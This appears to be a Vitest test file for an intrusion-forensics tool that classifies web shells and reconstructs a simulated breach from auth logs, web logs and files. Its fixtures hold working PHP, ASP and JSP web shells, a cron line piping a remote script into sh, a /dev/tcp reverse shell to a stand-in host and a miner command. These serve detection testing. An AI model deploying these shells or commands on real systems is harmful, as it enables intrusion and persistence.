import { describe, expect, it } from 'vitest';
import { readLogs } from '../../../src/logs/index.ts';
import { intrusionSheet } from '../../../src/logs/intrusion/sheet.ts';
import { judgeScript } from '../../../src/logs/intrusion/shells.ts';
import { input, lexicon, NOW } from '../read.ts';

const two = (n: number): string => String(n).padStart(2, '0');

describe('web shells', () => {
  it.each([
    [
      'Behinder',
      'www/system.php',
      '<?php @error_reporting(0); session_start(); $key="e45e329feb5d925b"; $_SESSION[\'k\']=$key; $post=file_get_contents("php://input"); ?>',
      { key: 'e45e329feb5d925b', opensWith: 'rebeyond' },
    ],
    [
      'Godzilla',
      'www/x.php',
      "<?php $pass='hack6618'; $payloadName='payload'; $key='3c6e0b8a9c15224a'; ?>",
      { key: '3c6e0b8a9c15224a' },
    ],
    ['Godzilla', 'webapps/a.jsp', '<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; %>', { opensWith: 'key' }],
    ['one-liner', 'www/up.php', "<?php @eval($_POST['ant']);?>", { opensWith: 'ant' }],
    ['one-liner', 'www/a.asp', '<%eval request("cmd")%>', { opensWith: 'cmd' }],
    [
      'one-liner',
      'www/a.aspx',
      '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
      { opensWith: 'z' },
    ],
    ['command shell', 'www/c.php', "<?php system($_GET['c']); ?>", {}],
    ['command shell', 'webapps/c.jsp', '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>', {}],
    ['obfuscated', 'www/o.php', '<?php eval(gzinflate(base64_decode("AAAA"))); ?>', {}],
    ['hidden code', 'uploads/a.php', 'GIF89a<?php phpinfo(); ?>', {}],
  ])('%s in %s', (family, file, source, expected) => {
    expect(judgeScript(file, source)).toMatchObject({ family, ...expected });
  });

  it.each([
    [
      'a page that evaluates nothing',
      'www/index.php',
      '<?php echo htmlspecialchars($_GET["q"]); $r = $db->exec("select 1"); ?>',
    ],
    [
      'an ordinary upload form',
      'www/form.php',
      '<?php $name = bin2hex(random_bytes(8)); move_uploaded_file($_FILES["f"]["tmp_name"], "/data/$name"); ?>',
    ],
    ['a template that mentions eval in words', 'www/help.php', '<p>Never pass user input to eval().</p>'],
    [
      'a JSP page',
      'webapps/pay.jsp',
      '<%@ page import="java.util.*" %><% out.print(request.getParameter("order")); %>',
    ],
  ])('leaves %s alone', (_, file, source) => {
    expect(judgeScript(file, source)).toBeUndefined();
  });
});

describe('the answer sheet', () => {
  const auth = [
    ...['root', 'root', 'root', 'admin'].map(
      (user, i) =>
        `Sep 12 08:00:${two(i)} host sshd[1]: Failed password for ${user === 'admin' ? 'invalid user ' : ''}${user} from 192.0.2.2 port 4${i} ssh2`,
    ),
    ...['root', 'hello', 'user', 'user', 'test1'].map(
      (user, i) =>
        `Sep 12 08:01:${two(i)} host sshd[1]: Failed password for ${user === 'root' ? '' : 'invalid user '}${user} from 192.0.2.31 port 4${i} ssh2`,
    ),
    'Sep 12 08:01:30 host sshd[1]: Failed password for root from 192.0.2.2 port 50 ssh2',
    'Sep 12 08:02:00 host sshd[1]: Accepted password for root from 192.0.2.2 port 51 ssh2',
    'Sep 12 08:03:00 host useradd[77]: new user: name=test2, UID=1001, GID=1001, home=/var/lib/test2, shell=/bin/sh, from=/dev/pts/0',
    'Sep 12 09:00:00 host sshd[1]: Accepted publickey for deploy from 10.0.0.4 port 57253 ssh2: ED25519 SHA256:x',
  ].join('\n');
  const access = [
    ...Array.from(
      { length: 30 },
      (_, i) =>
        `198.51.100.7 - - [12/Sep/2026:08:10:${two(i)} +0000] "GET /dir${i} HTTP/1.1" 404 12 "-" "Mozilla/5.0 gobuster/3.6"`,
    ),
    '198.51.100.7 - - [12/Sep/2026:08:11:00 +0000] "GET /p?id=1%20union%20select%201,2 HTTP/1.1" 500 12 "-" "x"',
    '198.51.100.7 - - [12/Sep/2026:08:12:00 +0000] "POST /uploads/.cache.php HTTP/1.1" 200 64 "-" "-"',
    '198.51.100.7 - - [12/Sep/2026:08:12:05 +0000] "POST /uploads/.cache.php HTTP/1.1" 200 64 "-" "-"',
    ...Array.from(
      { length: 20 },
      (_, i) =>
        `203.0.113.${i} - - [12/Sep/2026:08:10:${two(i)} +0000] "GET /index.php?q=tea HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
    ),
  ].join('\n');
  const files = [
    {
      file: 'www/uploads/.cache.php',
      text: "<?php @eval($_POST['ant']);?>",
      modified: Date.UTC(2026, 8, 12, 8, 11, 30),
    },
    { file: 'www/index.php', text: '<?php echo 1; ?>' },
    {
      file: 'etc/passwd',
      text: 'root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\nsvc$:x:0:0::/root:/bin/bash\n',
    },
    { file: 'root/.ssh/authorized_keys', text: 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB redis@kali\n' },
    { file: 'etc/cron.d/update', text: '* * * * * root curl -fsSL http://198.51.100.200/x.sh | sh\n# comment\n' },
    {
      file: 'root/.bash_history',
      text: 'ls\nbash -i >& /dev/tcp/evil.example.net/4444 0>&1\nxmrig -o stratum+tcp://pool.example.net:3333\n',
    },
    { file: 'etc/cron.daily/logrotate', text: '/usr/sbin/logrotate /etc/logrotate.conf\n' },
  ];

  const sheet = async () => {
    const logs = await readLogs(
      [input('var/log/auth.log', `${auth}\n`), input('var/log/nginx/access.log', `${access}\n`)],
      { lexicon, now: NOW },
    );
    return intrusionSheet(logs, files);
  };

  it('names who guessed passwords, with what words, and who got in', async () => {
    const { bruteForce } = await sheet();
    expect(bruteForce.map(({ address, tries }) => [address, tries])).toEqual([
      ['192.0.2.2', 5],
      ['192.0.2.31', 5],
    ]);
    expect(bruteForce[0]!.success).toMatchObject({ user: 'root', proof: { line: 11 } });
    expect(bruteForce[0]!.dictionary).toEqual([
      { user: 'root', tries: 4 },
      { user: 'admin', tries: 1 },
    ]);
    expect(bruteForce[1]!.success).toBeUndefined();
  });

  it('names the web shell, its password, its user and its first use', async () => {
    const { webShells } = await sheet();
    expect(webShells).toHaveLength(1);
    expect(webShells[0]).toMatchObject({
      file: 'www/uploads/.cache.php',
      family: 'one-liner',
      opensWith: 'ant',
      clients: ['198.51.100.7'],
      uses: 2,
      firstUse: Date.UTC(2026, 8, 12, 8, 12, 0),
    });
  });

  it('ranks the attackers and leaves visitors and administrators out', async () => {
    const { attackers } = await sheet();
    expect(attackers.map(({ address }) => address)).toEqual(['198.51.100.7', '192.0.2.2', '192.0.2.31']);
    expect(attackers[0]!.deeds).toEqual([
      'used the web shell www/uploads/.cache.php',
      'sent injections',
      'called itself by the name of an attack tool',
      'scanned for paths',
    ]);
  });

  it('finds the accounts, the persistence and where it points', async () => {
    const { accounts, persistence, indicators } = await sheet();
    expect(accounts.map(({ name }) => name)).toEqual(['test2', 'svc$']);
    expect(accounts[1]!.why).toEqual(['a second root: user id 0', 'its name hides it']);
    expect(persistence.map(({ kind, proof }) => [kind, proof.file])).toEqual([
      ['authorized-key', 'root/.ssh/authorized_keys'],
      ['cron', 'etc/cron.d/update'],
      ['history', 'root/.bash_history'],
      ['history', 'root/.bash_history'],
    ]);
    expect(indicators.map(({ kind, value }) => `${kind} ${value}`)).toEqual([
      'url http://198.51.100.200/x.sh',
      'address 198.51.100.200',
      'host evil.example.net',
      'pool stratum+tcp://pool.example.net:3333',
    ]);
  });

  it('tells the first entry and one timeline', async () => {
    const { entry, timeline } = await sheet();
    expect(entry).toMatchObject({
      how: 'guessed password of root over ssh from 192.0.2.2',
      time: Date.UTC(2026, 8, 12, 8, 2, 0),
    });
    expect(timeline.map(({ what }) => what.split(' ')[0])).toEqual([
      '192.0.2.2',
      '192.0.2.31',
      '192.0.2.2',
      'account',
      'www/uploads/.cache.php',
      'www/uploads/.cache.php',
    ]);
  });

  it('says what it could not answer', async () => {
    const logs = await readLogs([], { lexicon, now: NOW });
    expect(intrusionSheet(logs, []).unanswered).toHaveLength(5);
    expect((await sheet()).unanswered.map(({ question }) => question)).toEqual(['whether programs were replaced']);
  });
});
